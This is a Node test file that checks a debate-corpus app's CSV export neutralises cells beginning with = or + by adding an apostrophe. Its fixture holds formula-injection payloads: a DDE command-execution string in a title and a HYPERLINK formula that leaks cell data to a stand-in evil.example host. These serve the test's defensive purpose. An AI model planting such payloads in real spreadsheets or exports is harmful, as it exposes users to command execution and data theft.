// CSV downloads from a corpus holding text a spreadsheet would run as a formula.

import assert from 'node:assert/strict';
import { cp, mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { FIXTURE_DATA_DIR, startApp, type StartedApp } from '../helpers/start-app.ts';

const FORMULA_DEBATE = `---
slug: formula-debate
title: "=cmd|' /C calc'!A0"
date: 2013-01-02
medium: blog-post
language: en
participants: [alice-martin]
---

Texts that look like formulas.

## formula-1
- speaker: alice-martin
- kind: comment
- question: moderation
- position: pre

=HYPERLINK("http://evil.example/?x="&A1, "click")

## formula-2
- speaker: alice-martin
- kind: comment

+1, "agreed", said someone
`;

let dir: string;
let app: StartedApp;

before(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), 'contrepoint-csv-'));
  await cp(FIXTURE_DATA_DIR, dir, { recursive: true });
  await writeFile(path.join(dir, 'debates', 'formula-debate.md'), FORMULA_DEBATE);
  app = await startApp({ dataDir: dir });
});

after(async () => {
  await app?.close();
  await rm(dir, { recursive: true, force: true });
});

test('when exported units start with = or +, then their CSV cells are neutralised with a leading apostrophe', async () => {
  const response = await fetch(`${app.baseUrl}/api/search?format=csv&debate=formula-debate`);
  assert.equal(response.status, 200);
  const text = await response.text();
  const rows = parse(text, { bom: true }) as string[][];
  assert.deepEqual(rows[0], ['id', 'debate', 'speaker', 'speakerName', 'question', 'position', 'positionLabel', 'kind', 'text', 'url', 'codes']);
  const byId = new Map(rows.slice(1).map((r) => [r[0], r]));
  assert.equal(byId.get('formula-1')?.[8], `'=HYPERLINK("http://evil.example/?x="&A1, "click")`);
  assert.equal(byId.get('formula-2')?.[8], `'+1, "agreed", said someone`);
  assert.ok(!/(^|,)[=+]/m.test(text.replace(/^\uFEFF/, '')), 'no cell starts with a formula character');
});

test('when a comparison is exported, then its cells are neutralised the same way', async () => {
  const response = await fetch(`${app.baseUrl}/api/compare?speaker=alice-martin&speaker=bob-lee&format=csv`);
  assert.equal(response.status, 200);
  const rows = parse(await response.text(), { bom: true }) as string[][];
  const formula = rows.find((r) => r[4] === 'formula-1');
  assert.equal(formula?.[8]?.startsWith(`'=`), true);
});
